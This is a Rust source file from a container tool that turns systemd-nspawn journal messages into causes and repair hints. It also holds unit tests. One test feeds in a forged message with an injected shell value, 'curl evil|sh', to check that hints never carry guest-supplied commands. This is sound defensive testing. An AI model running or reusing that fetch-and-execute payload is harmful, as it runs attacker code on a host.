//! From a failed unit to the line of the journal that explains it, and what mends it.

use super::needed::why_not_started;
use crate::machine::Cancel;
use crate::machine::text::printable;
use crate::sys::bus::Bus;
use crate::sys::bus::systemd1::UnitState;
use crate::sys::journal::{self, Line, SUPERVISOR};
use crate::sys::processor::PACKAGES;

/// Why a job on a machine failed.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Diagnosis {
    /// One word for scripts, as `config check` has it where it finds the same: "missing-bridge".
    pub code: &'static str,
    /// The cause in a few words: "bridge 'br0' does not exist".
    pub cause: String,
    /// The journal's own line and the unit's result.
    pub evidence: Vec<String>,
    /// Commands that mend it.
    pub hints: Vec<String>,
    /// The line of the journal that tells it, if there is one.
    pub line: Option<Line>,
}

/// What stands behind a message of systemd-nspawn: a piece of the message, the cause, and what mends it.
///
/// `{}` in cause and hint is the quoted or last word that follows `marker` in the message.
struct Known {
    marker: &'static str,
    code: &'static str,
    cause: fn(&str, &str) -> String,
    hint: fn(&str, &str) -> String,
}

/// Messages of systemd-nspawn 252 to 262, most telling first. Arguments: the machine, the message.
const KNOWN: &[Known] = &[
    Known {
        marker: "to bridge ",
        code: "missing-bridge",
        cause: |_, message| format!("bridge '{}' does not exist", after(message, "to bridge ")),
        hint: |_, message| {
            let bridge = plain(after(message, "to bridge "), "BRIDGE");
            format!(
                "create it, for example with `ip link add {bridge} type bridge`, or choose another in the .nspawn file"
            )
        },
    },
    Known {
        marker: "Failed to resolve interface",
        code: "missing-interface",
        cause: |_, message| {
            format!(
                "network interface '{}' does not exist",
                after(message, "Failed to resolve interface ")
            )
        },
        hint: |name, _| format!("see `ip link`, and [Network] in /etc/systemd/nspawn/{name}.nspawn"),
    },
    Known {
        marker: "Failed to add new veth interfaces",
        code: "link-taken",
        cause: |_, message| {
            let link = after(message, "veth interfaces (");
            let link = link.split(':').next().unwrap_or(link);
            format!("the host's end of its link cannot be made: there is a network interface '{link}' already")
        },
        hint: |_, message| {
            let link = after(message, "veth interfaces (");
            let link = plain(link.split(':').next().unwrap_or(link), "LINK");
            format!("see whose it is: `ip -d link show {link}`; `ip link delete {link}` removes it")
        },
    },
    Known {
        marker: "is currently busy",
        code: "image-busy",
        cause: |_, _| "its image is in use by another process".to_owned(),
        hint: |_, _| {
            "see what runs from it: `machinectl list` and `ps -e -o pid,args | grep systemd-nspawn`".to_owned()
        },
    },
    Known {
        marker: "exists already, refusing",
        code: "stale-mount",
        cause: |_, _| "a mount of a former run is left over".to_owned(),
        hint: |name, _| format!("remove it: `umount /run/systemd/nspawn/unix-export/{name}`"),
    },
    Known {
        marker: ") failed: Exec format error",
        code: "init-wrong-format",
        cause: |_, _| "this processor does not run the first program of its image".to_owned(),
        hint: |name, _| {
            format!(
                "make it anew for the architecture that `uname -m` says, or install an emulator: {PACKAGES}; see `file -L /var/lib/machines/{name}/sbin/init`"
            )
        },
    },
    Known {
        marker: "/sbin/init) failed: Permission denied",
        code: "init-not-executable",
        cause: |_, _| "the init in its image is not executable".to_owned(),
        hint: |name, _| format!("`chmod +x /var/lib/machines/{name}/sbin/init`, if it is that one"),
    },
    Known {
        marker: "execv(",
        code: "no-init",
        cause: |_, _| "there is no init in its image".to_owned(),
        hint: |name, _| {
            format!(
                "install one into the image (package systemd-sysv), or set [Exec] Boot=no and Parameters= in /etc/systemd/nspawn/{name}.nspawn"
            )
        },
    },
    Known {
        marker: "doesn't look like",
        code: "no-os-tree",
        cause: |_, _| "its image holds no operating system".to_owned(),
        hint: |name, _| format!("look into /var/lib/machines/{name}: /usr and an os-release file must be there"),
    },
    Known {
        marker: "No image for machine",
        code: "image-missing",
        cause: |name, _| format!("there is no image '{name}'"),
        hint: |name, _| format!("make one: `machinist create {name} debian:stable`"),
    },
    Known {
        marker: ".nspawn:",
        code: "settings-refused",
        cause: |_, message| format!("its settings do not parse: {message}"),
        hint: |name, _| format!("mend the named line in /etc/systemd/nspawn/{name}.nspawn, see systemd.nspawn(5)"),
    },
    Known {
        marker: "without private networking",
        code: "conflict",
        cause: |_, _| "Port= needs a private network".to_owned(),
        hint: |name, _| {
            format!("add Private=yes and VirtualEthernet=yes to [Network] in /etc/systemd/nspawn/{name}.nspawn")
        },
    },
    Known {
        marker: "Failed to stat ",
        code: "missing-source",
        cause: |_, message| is_missing(after(message, "Failed to stat ")),
        hint: |name, _| make_or_unbind(name),
    },
    Known {
        marker: "Failed to clone ",
        code: "missing-source",
        cause: |_, message| is_missing(after(message, "Failed to clone ")),
        hint: |name, _| make_or_unbind(name),
    },
    Known {
        marker: "No space left on device",
        code: "disk-full",
        cause: |_, _| "the disk is full".to_owned(),
        hint: |name, _| {
            format!(
                "see `df -h /var/lib/machines` and `machinist quota {name}`; `machinist clean` frees caches and trash"
            )
        },
    },
    Known {
        marker: "Disk quota exceeded",
        code: "quota-exceeded",
        cause: |_, _| "it takes all of the disk that it may".to_owned(),
        hint: |name, _| format!("see `machinist quota {name}`, and allow it more: `machinist quota {name} 10G`"),
    },
    Known {
        marker: "name is not activatable",
        code: "machined-masked",
        cause: |_, _| "systemd-machined is not installed or masked".to_owned(),
        hint: |_, _| {
            "install it with `apt install systemd-container`, or `systemctl unmask systemd-machined`".to_owned()
        },
    },
    Known {
        marker: "Failed to register machine",
        code: "not-registered",
        cause: |_, message| format!("systemd-machined did not register it: {message}"),
        hint: |_, _| "see `systemctl status systemd-machined`".to_owned(),
    },
    Known {
        marker: "terminated by signal ",
        code: "init-killed",
        cause: |_, message| format!("its init was ended by signal {}", after(message, "by signal ")),
        hint: |name, _| {
            format!(
                "see `machinist logs {name}`, and `journalctl --dmesg` for whether the kernel did it; start it again: `machinist start {name}`"
            )
        },
    },
];

/// What follows `marker`, without quotes, up to the next colon-blank or the end.
fn after<'a>(message: &'a str, marker: &str) -> &'a str {
    let rest = message.find(marker).map_or(message, |at| &message[at + marker.len()..]);
    let rest = rest.split(": ").next().unwrap_or(rest);
    rest.trim_matches(|c| matches!(c, '"' | '\'' | '.' | ' '))
}

/// A name of a message that becomes part of a command, if it is one that no shell takes for anything else. A guest may have
/// written the message: before 257 its console is in the journal as systemd-nspawn's own words are.
fn plain<'a>(name: &'a str, otherwise: &'a str) -> &'a str {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._-".contains(c);
    let fits = (1..=15).contains(&name.len()) && !name.starts_with('-');
    if fits && name.chars().all(is_plain) {
        name
    } else {
        otherwise
    }
}

/// Of a path, up to the first colon.
fn is_missing(text: &str) -> String {
    format!(
        "'{}' does not exist on this host",
        text.split(':').next().unwrap_or(text)
    )
}

fn make_or_unbind(name: &str) -> String {
    format!("create it, or take its Bind= out of /etc/systemd/nspawn/{name}.nspawn")
}

/// Whether it is a line of systemd-nspawn that may name a cause: others only say that something failed, follow from the
/// cause, or are advice (262 gives some at every start).
fn is_telling(line: &Line) -> bool {
    line.identifier == SUPERVISOR
        && !line.message.trim().is_empty()
        && ![
            "Parent died too early",
            "Child died too early",
            "Failed to read",
            "Short read",
            "terminated by signal",
            "Note: ",
        ]
        .iter()
        .any(|noise| line.message.starts_with(noise))
}

/// What systemd-nspawn said that none of [`KNOWN`] knows.
pub(super) const SUPERVISOR_FAILED: &str = "supervisor-failed";
/// It said nothing.
pub(super) const UNIT_FAILED: &str = "unit-failed";
/// systemd does not try it again for now.
pub(super) const START_LIMIT: &str = "start-limit";

/// Finds the cause in the lines of an invocation. `result` is the unit's `Result`, such as "exit-code".
#[must_use]
pub fn explain(name: &str, unit: &str, result: &str, lines: &[Line]) -> Diagnosis {
    let mut own: Vec<&Line> = lines.iter().filter(|line| is_telling(line)).collect();
    // Where systemd-nspawn has told an error to the journal itself, the rest is no better than what the machine shows.
    let by_itself = |line: &Line| line.transport == "journal" && line.priority <= 3;
    if own.iter().any(|line| by_itself(line)) {
        own.retain(|line| by_itself(line));
    }
    // A fatal error stands at the end; before it there may be warnings that match, too.
    let known = KNOWN.iter().find_map(|known| {
        own.iter()
            .rev()
            .find(|line| line.message.contains(known.marker))
            .map(|line| (known, *line))
    });
    let unit_said = failed(unit, result);
    let see_journal = format!("see `journalctl --unit {unit}` for all of it");
    if let Some((known, line)) = known {
        let message = line.message.trim();
        return Diagnosis {
            code: known.code,
            line: Some(line.clone()),
            cause: printable(&(known.cause)(name, message)),
            evidence: vec![unit_said, format!("systemd-nspawn: {}", printable(message))],
            hints: vec![printable(&(known.hint)(name, message))],
        };
    }
    if let Some(ended) = failed_hook(lines) {
        let said = lines
            .iter()
            .rev()
            .find(|line| !matches!(line.identifier.as_str(), "systemd" | SUPERVISOR));
        let line = said.cloned();
        let said = said.map(|line| format!("{}: {}", printable(&line.identifier), printable(line.message.trim())));
        return Diagnosis {
            code: "hook-failed",
            line,
            cause: format!("a command that its unit runs before or after the start failed ({ended})"),
            evidence: std::iter::once(unit_said).chain(said).collect(),
            hints: vec![
                format!("see `machinist config get {name} before-start`, or after-start"),
                see_journal,
            ],
        };
    }
    if let Some(line) = failed_credentials(lines) {
        let said = format!("systemd: {}", printable(line.message.trim()));
        return Diagnosis {
            code: "secrets-unreadable",
            line: Some(line.clone()),
            cause: "its secrets cannot be loaded".to_owned(),
            evidence: vec![unit_said, said],
            hints: vec![
                format!(
                    "see `machinist config check {name}`; or another host's key has encrypted them: set them again"
                ),
                format!("see `journalctl --unit {unit}` for all of it"),
            ],
        };
    }
    // An error of nspawn's own, told by its priority; where versions do not tell, its last line.
    let last = own.iter().rev().find(|line| line.priority <= 3).or_else(|| own.last());
    let (cause, evidence) = match last {
        Some(line) => (printable(line.message.trim()), vec![unit_said]),
        None => (unit_said, Vec::new()),
    };
    Diagnosis {
        code: if last.is_some() { SUPERVISOR_FAILED } else { UNIT_FAILED },
        cause,
        evidence,
        hints: vec![
            format!("`machinist why {name}` looks at the settings, the image and the host, too"),
            see_journal,
        ],
        line: last.map(|line| (*line).clone()),
    }
}

/// What systemd says of a unit that failed.
fn failed(unit: &str, result: &str) -> String {
    format!("unit {unit} failed ({result})")
}

/// How a command of `ExecStartPre=` or `ExecStartPost=` ended, if that was the first of the unit's processes to end.
fn failed_hook(lines: &[Line]) -> Option<String> {
    let ended = |line: &&Line| line.identifier == "systemd" && line.message.contains(" process exited, ");
    let first = lines.iter().find(ended)?;
    let (_, how) = first.message.split_once(": Control process exited, ")?;
    Some(printable(how.split_once("status=").map_or(how, |(_, status)| status)))
}

/// What systemd says if it could not decrypt or read what the unit loads, see "Process Exit Codes" in systemd.exec(5).
fn failed_credentials(lines: &[Line]) -> Option<&Line> {
    let by_systemd = |line: &&Line| line.identifier == "systemd";
    let failed = lines.iter().filter(by_systemd);
    failed
        .rev()
        .find(|line| line.message.ends_with("status=243/CREDENTIALS"))
}

/// Asks the unit and the journal why a job ended with `job_result` ("failed", "timeout", "dependency" …).
///
/// `former` is the unit's invocation before a start job.
pub async fn failed_job(bus: &Bus, name: &str, unit: &str, job_result: &str, former: Option<&str>) -> Diagnosis {
    let Ok(state) = bus.unit_state(unit).await else {
        return Diagnosis {
            cause: format!("its job ended with '{job_result}'"),
            ..Diagnosis::default()
        };
    };
    if job_result == "dependency" {
        if let Ok(Some(diagnosis)) = why_not_started(bus, unit, job_result).await {
            return diagnosis;
        }
        return Diagnosis {
            code: "dependency-failed",
            cause: "a unit that it depends on failed".to_owned(),
            hints: vec![format!(
                "see `systemctl list-dependencies {unit}` and `systemctl --failed`"
            )],
            ..Diagnosis::default()
        };
    }
    let result = state.detail.string("Result");
    let invocation = state.unit.hex("InvocationID");
    // A unit that failed before keeps its former result when the limit refuses the next start, but a start that was
    // tried has an invocation of its own.
    let refused = job_result == "failed" && former == Some(invocation.as_str());
    if result == "start-limit-hit" || refused {
        return Diagnosis {
            code: START_LIMIT,
            cause: "it was started too often in a short time".to_owned(),
            evidence: vec![failed(unit, "start-limit-hit")],
            hints: vec![format!("wait a little, or `systemctl reset-failed {unit}`")],
            line: None,
        };
    }
    let lines = last_lines(unit, &state).await;
    let result = if result.is_empty() || result == "success" {
        job_result
    } else {
        &result
    };
    explain(name, unit, result, &lines)
}

/// What the journal has of the last invocation of a unit.
pub(super) async fn last_lines(unit: &str, state: &UnitState) -> Vec<Line> {
    let invocation = state.unit.hex("InvocationID");
    if invocation.is_empty() {
        Vec::new()
    } else {
        let number = |name| state.detail.number(name).filter(|number| *number > 0);
        let (pid, started) = (number("ExecMainPID"), number("ExecMainStartTimestamp"));
        let main = match (pid, started, number("ExecMainExitTimestamp")) {
            (Some(pid), Some(started), Some(ended)) => Some(journal::MainProcess { pid, started, ended }),
            _ => None,
        };
        let unit = unit.to_owned();
        let read = move || journal::of_invocation(&unit, &invocation, main, is_telling, &Cancel::default());
        tokio::task::spawn_blocking(read)
            .await
            .ok()
            .and_then(Result::ok)
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(priority: u8, message: &str) -> Line {
        Line {
            time: 0,
            identifier: "systemd-nspawn".into(),
            transport: "journal".into(),
            priority,
            pid: 9,
            unit: "systemd-nspawn@web.service".into(),
            message: message.into(),
        }
    }

    fn cause(lines: &[Line]) -> Diagnosis {
        explain("web", "systemd-nspawn@web.service", "exit-code", lines)
    }

    #[test]
    fn names_the_bridge_and_not_the_noise_after_it() {
        let found = cause(&[
            line(3, "Failed to add interface vb-web to bridge br0: No such device"),
            line(3, "Parent died too early"),
        ]);
        assert_eq!(found.cause, "bridge 'br0' does not exist");
        assert!(found.hints[0].contains("ip link add br0 type bridge"));
    }

    #[test]
    fn a_console_line_is_the_last_resort() {
        let found = cause(&[line(6, "hello"), line(6, "something \x1b[1m broke"), line(6, " ")]);
        assert_eq!(found.cause, "something \\u{1b}[1m broke");
        assert_eq!(cause(&[]).cause, "unit systemd-nspawn@web.service failed (exit-code)");
    }

    #[test]
    fn what_a_machine_shows_gives_no_command_to_type() {
        let shown = |message: &str| Line {
            transport: "stdout".into(),
            ..line(6, message)
        };
        let forged = "Failed to add new veth interfaces (x;curl evil|sh:host0): File exists";
        let found = cause(&[shown(forged)]);
        assert!(!found.hints.concat().contains("curl"), "{:?}", found.hints);
        let found = cause(&[shown(forged), line(3, "Failed to create something")]);
        assert_eq!(found.cause, "Failed to create something");
        let found = cause(&[line(3, "Failed to add new veth interfaces (ve-web:host0): File exists")]);
        assert!(found.hints[0].contains("ip link delete ve-web"));
    }

    #[test]
    fn secrets_that_cannot_be_loaded_are_told() {
        let by_systemd = Line {
            identifier: "systemd".into(),
            ..line(
                5,
                "systemd-nspawn@web.service: Main process exited, code=exited, status=243/CREDENTIALS",
            )
        };
        let found = cause(&[by_systemd]);
        assert_eq!(found.cause, "its secrets cannot be loaded");
        assert!(found.evidence[1].contains("243/CREDENTIALS"));
        assert!(found.hints[0].contains("machinist config check web"));
    }

    #[test]
    fn advice_is_no_cause() {
        let found = cause(&[line(5, "Note: in a future version of systemd-nspawn …")]);
        assert_eq!(found.cause, "unit systemd-nspawn@web.service failed (exit-code)");
    }

    #[test]
    fn quotes_around_names_are_peeled() {
        let found = cause(&[line(3, "Failed to resolve interface \"eth7\": No such device")]);
        assert_eq!(found.cause, "network interface 'eth7' does not exist");
        let found = cause(&[line(3, "Failed to stat /nonexistent: No such file or directory")]);
        assert_eq!(found.cause, "'/nonexistent' does not exist on this host");
    }
}
